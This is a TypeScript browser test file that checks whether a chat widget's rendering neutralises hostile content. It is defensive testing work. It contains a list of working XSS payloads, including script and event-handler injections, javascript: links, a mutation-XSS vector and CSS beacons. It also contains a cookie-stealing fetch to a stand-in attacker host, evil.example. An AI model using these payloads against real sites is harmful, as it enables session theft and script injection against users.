// Hostile content: whatever a model, a document, a bot's settings or another person writes, nothing of it runs, nothing
// leaves this origin, and the content policy has nothing to refuse.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Browser } from "playwright-core";
import { startPageMock } from "../support/page-mock.ts";
import type { PageMock } from "../support/page-mock.ts";
import { hasBrowser, launch, watchedPage } from "./browser.ts";

const TIMEOUT = 60_000;
const RUN = "window.__ran=1;fetch('https://evil.example/'+document.cookie)";

/** Each must be inert as a bot's answer, a user's words, a title, a label, a name. */
const ATTACKS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><circle r=1></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<a href="javascript:${RUN}">click</a>`,
  `[click](javascript:window.__ran=1)`,
  `[click](JaVaScRiPt:window.__ran=1)`,
  `[click](java\tscript:window.__ran=1)`,
  `[click](&#106;avascript:window.__ran=1)`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `[click](blob:https://evil.example/1)`,
  `[click](<javascript:window.__ran=1>)`,
  `![picture](https://evil.example/pixel.png)`,
  `![picture](javascript:window.__ran=1)`,
  `![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![x" onerror="window.__ran=1](x)`,
  `[x](https://ok.example/"onmouseover="window.__ran=1)`,
  `<https://ok.example/"onclick=window.__ran=1>`,
  `[ref]\n\n[ref]: javascript:window.__ran=1`,
  `<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b)}</style>`,
  `<link rel=stylesheet href=https://evil.example/c.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus onfocus="window.__ran=1">x</button></form>`,
  `<video src=https://evil.example/v poster=https://evil.example/p onerror=window.__ran=1></video>`,
  `<object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  `<details open ontoggle=window.__ran=1>x</details>`,
  `<input autofocus onfocus=window.__ran=1>`,
  "```html\n<script>window.__ran=1</script>\n```",
  "`<img src=x onerror=window.__ran=1>`",
  `| a | b |\n|---|---|\n| <img src=x onerror=window.__ran=1> | [x](javascript:1) |`,
  `<template><script>window.__ran=1</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=window.__ran=1>">`,
  `<div id=app></div><div id=message name=body></div>`,
  `{{constructor.constructor('window.__ran=1')()}}`,
];

describe.skipIf(!hasBrowser)("hostile content", () => {
  let browser: Browser;
  let mock: PageMock;
  beforeAll(async () => {
    browser = await launch();
    mock = await startPageMock();
  }, TIMEOUT);
  afterAll(async () => {
    await browser.close();
    await mock.close();
  });

  test(
    "nothing runs, nothing is fetched, and dangerous links are no links",
    async () => {
      const { page, context, faults } = await watchedPage(browser, [mock.url]);
      await page.goto(mock.url);
      await page.locator(".state", { hasText: "Online" }).waitFor();
      const [conversation] = mock.conversations.values();
      if (!conversation) throw new Error("no conversation");
      for (const [at, attack] of ATTACKS.entries()) {
        mock.send(conversation, {
          sender: "user",
          content: attack,
          attachments: [{ id: `a${at}`, name: attack, mime: "text/plain", size: 1 }],
        });
        mock.send(conversation, {
          sender: at % 5 === 4 ? "attendant" : "bot",
          sender_name: attack,
          content: `${attack}\n\nand a source [1]`,
          citations: [
            {
              n: 1,
              document_id: attack,
              title: attack,
              collection: attack,
              path: attack,
              page: null,
              heading_path: [attack],
              snippet: attack,
              source_url: at % 2 ? "javascript:window.__ran=1" : attack,
            },
          ],
        });
        mock.send(conversation, {
          sender: "bot",
          content: attack,
          content_type: at % 2 ? "application/json" : "text/plain",
        });
        mock.send(conversation, { sender: "system", content: attack });
      }
      mock.send(conversation, {
        sender: "bot",
        content_type: "application/json",
        content: JSON.stringify([{ title: ATTACKS[0], text: ATTACKS[1], url: "javascript:window.__ran=1" }]),
      });
      mock.broadcast(conversation.id, {
        type: "suggestion",
        session_id: conversation.id,
        suggestions: ATTACKS.slice(0, 5).map((label) => ({ label, value: label })),
        switchers: [
          { id: ATTACKS[0], label: ATTACKS[1], color: "red;background:url(https://evil.example/)", active: true },
        ],
      });
      mock.broadcast(conversation.id, {
        type: "delta",
        session_id: conversation.id,
        message_id: "draft",
        index: 0,
        content: ATTACKS.join("\n\n"),
        reset: true,
      });
      mock.broadcast(conversation.id, {
        type: "tool",
        session_id: conversation.id,
        state: "started",
        name: "x",
        label: ATTACKS[1],
      });
      mock.broadcast(conversation.id, { type: "error", code: "CONFLICT", message: ATTACKS[1], details: {} });
      await page.locator(".message.writing").waitFor();
      await page.locator(".toast").waitFor();
      expect(await page.locator(".message").count()).toBe(ATTACKS.length * 4 + 2);

      for (const button of [page.locator(".source").first(), page.locator(".cite").last()]) {
        await button.click();
        await page.getByRole("dialog").waitFor();
        await page.keyboard.press("Escape");
      }
      const found = await page.evaluate(() => ({
        ran: "__ran" in window,
        elements: [...document.querySelectorAll(".messages *, .offers *, .toasts *, .dialog *")]
          .map((element) => element.tagName)
          .filter((tag) =>
            /^(script|iframe|object|embed|img|video|audio|style|link|meta|base|form|input|math|template)$/i.test(tag),
          ),
        handlers: [...document.querySelectorAll("*")].flatMap((element) =>
          element.getAttributeNames().filter((name) => name.startsWith("on") || name === "style" || name === "srcdoc"),
        ),
        links: [...document.querySelectorAll<HTMLAnchorElement>(".messages a")].map((link) => ({
          protocol: link.protocol,
          rel: link.rel,
          target: link.target,
        })),
      }));
      expect(found.ran).toBe(false);
      expect(found.elements).toEqual([]);
      expect([...new Set(found.handlers)].filter((name) => name !== "style")).toEqual([]);
      expect(found.links.length).toBeGreaterThan(2);
      for (const link of found.links) {
        expect(["http:", "https:"]).toContain(link.protocol);
        expect(link.rel).toContain("noopener");
        expect(link.target).toBe("_blank");
      }
      expect(faults).toEqual([]);
      await context.close();
    },
    TIMEOUT,
  );

  test(
    "HTML in an answer is shown as it was written",
    async () => {
      const { page, context, faults } = await watchedPage(browser, [mock.url]);
      mock.onMessage = (turn) => turn.answer("Use <b>bold</b> & <script>x</script> here");
      await page.goto(mock.url);
      await page.locator("#message").fill("hi");
      await page.keyboard.press("Enter");
      await page.locator(".message.bot .actions").waitFor();
      expect(await page.locator(".message.bot .text").innerText()).toBe("Use <b>bold</b> & <script>x</script> here");
      expect(faults).toEqual([]);
      await context.close();
    },
    TIMEOUT,
  );

  test(
    "a bot's theme cannot reach another host, and its accent stays readable",
    async () => {
      const own = await startPageMock();
      own.theme = ":root{--primary-color:#ffe600} body{background-image:url(https://evil.example/x.png)}";
      const { page, context, faults } = await watchedPage(browser, [own.url]);
      await page.goto(own.url);
      await page.locator(".state", { hasText: "Online" }).waitFor();
      await page.waitForFunction(() => document.documentElement.style.getPropertyValue("--accent") !== "");
      await page.waitForFunction(() => document.readyState === "complete");
      // The attempt was made, and stopped.
      expect(faults).toContain("stopped by the policy: https://evil.example/x.png");
      expect(faults.filter((fault) => fault.startsWith("request to"))).toEqual([]);
      await context.close();
      await own.close();
    },
    TIMEOUT,
  );

  test(
    "the policy would stop a script even if one got into the page",
    async () => {
      const { page, context } = await watchedPage(browser, [mock.url]);
      await page.goto(mock.url);
      const refused = await page.evaluate(() => {
        try {
          document.body.innerHTML = "<b>x</b>";
          return false;
        } catch (error) {
          return error instanceof TypeError;
        }
      });
      expect(refused).toBe(true);
      await context.close();
    },
    TIMEOUT,
  );
});
